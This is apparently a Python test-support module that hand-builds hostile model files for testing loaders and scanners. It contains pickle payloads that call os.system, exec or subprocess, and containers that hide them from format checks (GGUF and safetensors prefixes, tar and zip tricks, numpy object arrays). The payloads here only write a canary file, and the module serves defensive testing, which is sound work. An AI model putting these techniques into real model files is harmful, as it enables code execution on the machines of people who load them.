"""Byte builders for hostile model files: payload pickles and the containers that hide them.

Standard library only, deterministic, written by hand so that every record and header is under
the caller's control (a pickler or zipfile would normalise the tricks away). Used by the loader
oracle tests (with hypothesis choosing the arguments) and by the bench corpus generator.
Payloads are harmless: they write a canary file, or run `true`.
"""

from __future__ import annotations

import io
import struct
import tarfile
import zlib
from dataclasses import dataclass

# --- payload pickles -------------------------------------------------------------------------
PAYLOAD_KINDS = ("canary", "system", "exec", "getoutput")
STYLES = ("global", "stack_global", "inst", "memo", "newobj")


@dataclass(frozen=True)
class Payload:
    """`module.name(arg)`, where the call writes the canary file `canary`."""

    kind: str
    canary: str

    @property
    def global_(self) -> tuple[str, str]:
        return {
            "canary": ("tests.artifacts.canary", "touch"),
            "system": ("os", "system"),
            "exec": ("builtins", "exec"),
            "getoutput": ("subprocess", "getoutput"),
        }[self.kind]

    @property
    def argument(self) -> str:
        if self.kind == "canary":
            return self.canary
        if self.kind == "exec":
            return f"open({self.canary!r}, 'w').close()"
        return f"touch {self.canary}"

    def text(self) -> bytes:
        """Protocol 0, printable, no NUL: fits a tar name field."""
        module, name = self.global_
        arg = self.argument.replace("'", '"')
        return f"c{module}\n{name}\n(V{arg}\ntR.".encode()

    def body(self, style: str = "global", protocol: int = 2) -> bytes:
        """The opcodes that push the call's result (no PROTO, no STOP)."""
        module, name = self.global_
        arg = _unicode(self.argument, protocol)
        if style == "global":
            return _global(module, name) + b"(" + arg + b"tR"
        if style == "stack_global":
            return _unicode(module, 4) + _unicode(name, 4) + b"\x93" + arg + b"\x85R"
        if style == "inst":
            return b"(" + arg + b"i" + module.encode() + b"\n" + name.encode() + b"\n"
        if style == "memo":
            return _global(module, name) + b"q\x07" + b"0" + b"h\x07" + arg + b"\x85R"
        if style == "newobj":  # cls.__new__(cls, *args) runs no code for a function: use OBJ
            return b"(" + _global(module, name) + arg + b"o"
        raise ValueError(style)

    def pickle(self, protocol: int = 2, style: str = "global") -> bytes:
        head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
        return head + self.body(style, protocol) + b"."


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _unicode(value: str, protocol: int = 4) -> bytes:
    """SHORT_BINUNICODE from protocol 4 on (as picklers write it), BINUNICODE before."""
    data = value.encode()
    if protocol >= 4 and len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def wrap_in_dict(payload: Payload, protocol: int, style: str) -> bytes:
    """A state-dict-like pickle: {'weight': <payload>} (the payload is a value, not the top)."""
    head = b"\x80" + bytes([max(protocol, 2)])
    return head + b"}" + _unicode("weight", protocol) + payload.body(style, protocol) + b"s."


# --- magic prefixes that are also pickle opcodes ---------------------------------------------
def gguf_prefix(core: bytes, version: int, next_byte: int) -> bytes:
    """GGUF magic and version, eaten by BINFLOAT ('G' + 8 bytes), then POP: pickle runs `core`."""
    return b"GGUF" + struct.pack("<I", version) + bytes([next_byte]) + b"0" + core


def safetensors_prefix(core: bytes, first: int, length: int, filler: bytes) -> bytes:
    """An 8-byte little-endian header size (2..100 MiB) followed by '{', as safetensors starts.

    As pickle: BININT1 `first`, BINSTRING of `length` bytes (which swallows the '{'), POP POP.
    """
    if not 2 <= length <= 6:
        raise ValueError("length must be 2..6 to keep the header size under 100 MiB")
    content = (b"\x00{" + filler)[:length].ljust(length, b" ")
    return b"K" + bytes([first]) + b"T" + struct.pack("<I", length) + content + b"00" + core


def tar_with_pickle_name(core_text: bytes, fmt: int, members: list[tuple[str, bytes]]) -> bytes:
    """A valid tar whose first header's name field is a protocol-0 pickle."""
    if len(core_text) > 100 or b"\x00" in core_text:
        raise ValueError("the pickle must fit the 100-byte name field")
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt) as archive:
        info = tarfile.TarInfo(core_text.decode("latin-1"))
        archive.addfile(info, io.BytesIO(b""))
        for name, data in members:
            _add(archive, name, data)
    return out.getvalue()


def tar_swallowing(payload_pickle: bytes, fmt: int, members: list[tuple[str, bytes]], opcode: bytes) -> bytes:
    """A valid tar whose first bytes open a string that swallows the whole archive; the payload
    follows the tar's end-of-archive blocks. Tar readers see only the members."""
    total = len(_tar_bytes("X" * 5, fmt, members))
    # Zero padding after the end blocks (tar readers ignore it) until the length's bytes are
    # ASCII, so the name field needs no PAX header or non-ASCII encoding.
    pad = next(k for k in range(1 << 16) if all(b < 0x80 for b in struct.pack("<I", total + k - 5)))
    name = (opcode + struct.pack("<I", total + pad - 5)).decode("ascii")
    data = _tar_bytes(name, fmt, members)
    if len(data) != total:
        raise ValueError("tar size changed with the name")
    return data + b"\x00" * pad + b"0" + payload_pickle


def _tar_bytes(first_name: str, fmt: int, members: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt) as archive:
        _add(archive, first_name, b"")
        for name, data in members:
            _add(archive, name, data)
    return out.getvalue()


def _add(archive: tarfile.TarFile, name: str, data: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mtime = 1_700_000_000
    archive.addfile(info, io.BytesIO(data))


def v7_tar(members: list[tuple[str, bytes]]) -> bytes:
    """A pre-POSIX (V7) tar: no 'ustar' magic, NUL type flags, as torch's legacy format was."""
    out = bytearray()
    for name, data in members:
        header = bytearray(512)
        header[0:100] = name.encode()[:100].ljust(100, b"\x00")
        header[100:108] = b"0000644\x00"
        header[108:116] = b"0000000\x00"
        header[116:124] = b"0000000\x00"
        header[124:136] = f"{len(data):011o}\x00".encode()
        header[136:148] = f"{1_700_000_000:011o}\x00".encode()
        header[148:156] = b" " * 8
        header[156:157] = b"\x00"  # V7 regular file
        checksum = sum(header)
        header[148:156] = f"{checksum:06o}\x00 ".encode()
        out += header + data + b"\x00" * (-len(data) % 512)
    return bytes(out + b"\x00" * 1024)


def torch_legacy_tar(members: dict[str, bytes], v7: bool, order: list[str]) -> bytes:
    """torch's oldest format: a tar of sys_info, pickle, tensors and storages pickles."""
    items = [(name, members[name]) for name in order]
    if v7:
        return v7_tar(items)
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for name, data in items:
            _add(archive, name, data)
    return out.getvalue()


def legacy_storages_pickle() -> bytes:
    """What torch's legacy tar keeps in `storages` for no tensors: the count 0, then the
    (empty) list of storage views, two streams."""
    return b"\x80\x02K\x00." + b"\x80\x02]."


# --- zip, written record by record -----------------------------------------------------------
@dataclass
class ZipEntry:
    name: str
    data: bytes
    local_name: str | None = None  # a different name in the local header
    in_directory: bool = True


def zip_archive(
    entries: list[ZipEntry],
    *,
    count_override: int | None = None,
    comment: bytes = b"",
    declared_comment: int | None = None,
    extra_eocd: bool = False,
    prefix: bytes = b"",
) -> bytes:
    """A stored (uncompressed) zip: local headers, central directory, end record.

    `count_override` writes a wrong entry count in the end record; `declared_comment` a comment
    length that differs from the bytes present; `extra_eocd` puts an earlier decoy end record
    (listing nothing) before the real one.
    """
    out = bytearray(prefix)
    central = bytearray()
    listed = 0
    for entry in entries:
        offset = len(out)
        local_name = (entry.local_name if entry.local_name is not None else entry.name).encode()
        crc = zlib.crc32(entry.data)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, len(entry.data), len(entry.data), len(local_name), 0
        )
        out += local_name + entry.data
        if entry.in_directory:
            name = entry.name.encode()
            central += struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50, 20, 20, 0, 0, 0, 0x21, crc, len(entry.data), len(entry.data), len(name),
                0, 0, 0, 0, 0, offset,
            )  # fmt: skip
            central += name
            listed += 1
    directory_offset = len(out)
    out += central
    count = listed if count_override is None else count_override
    if extra_eocd:
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0, 0, 0, directory_offset, 0)
    length = len(comment) if declared_comment is None else declared_comment
    out += struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, count & 0xFFFF, count & 0xFFFF, len(central), directory_offset, length
    )
    return bytes(out + comment)


def torch_zip_entries(data_pkl: bytes, archive: str = "archive", pickle_name: str = "data.pkl") -> list[ZipEntry]:
    return [
        ZipEntry(f"{archive}/{pickle_name}", data_pkl),
        ZipEntry(f"{archive}/byteorder", b"little"),
        ZipEntry(f"{archive}/version", b"3\n"),
        ZipEntry(f"{archive}/.data/serialization_id", b"0123456789"),
    ]


# --- numpy -----------------------------------------------------------------------------------
def npy_header(descr: str, shape: tuple[int, ...], version: int = 1, fortran: bool = False) -> bytes:
    """A .npy header exactly as numpy writes it (padded to 64 bytes, newline-terminated)."""
    text = f"{{'descr': {descr}, 'fortran_order': {fortran}, 'shape': {shape!r}, }}"
    magic = b"\x93NUMPY" + bytes([version, 0])
    length_size = 2 if version == 1 else 4
    encoded = text.encode("utf-8" if version == 3 else "latin-1")
    pad = -(len(magic) + length_size + len(encoded) + 1) % 64
    encoded += b" " * pad + b"\n"
    length = struct.pack("<H" if version == 1 else "<I", len(encoded))
    return magic + length + encoded


def npy_object_file(descr: str, shape: tuple[int, ...], payload_pickle: bytes, version: int = 1) -> bytes:
    """np.load(allow_pickle=True) unpickles whatever follows the header when the dtype holds objects."""
    return npy_header(descr, shape, version) + payload_pickle


# --- codecs ----------------------------------------------------------------------------------
def compress(data: bytes, codec: str, level: int = 6) -> bytes:
    import bz2
    import gzip
    import lzma

    if codec == "gzip":
        return gzip.compress(data, compresslevel=max(1, min(level, 9)), mtime=0)
    if codec == "bz2":
        return bz2.compress(data, max(1, min(level, 9)))
    if codec == "xz":
        return lzma.compress(data, preset=min(level, 9))
    if codec == "lzma":
        return lzma.compress(data, format=lzma.FORMAT_ALONE, preset=min(level, 9))
    if codec == "zlib":
        return zlib.compress(data, min(level, 9))
    if codec == "lz4":
        import lz4.frame  # an optional codec: callers check it is installed

        return bytes(lz4.frame.compress(data, compression_level=level))
    if codec == "zstd":
        import zstandard

        return bytes(zstandard.ZstdCompressor(level=max(1, level)).compress(data))
    raise ValueError(codec)


def single_member_zip(name: str, data: bytes) -> bytes:
    return zip_archive([ZipEntry(name, data)])


def single_member_tar(name: str, data: bytes, fmt: int = tarfile.PAX_FORMAT) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt) as archive:
        _add(archive, name, data)
    return out.getvalue()
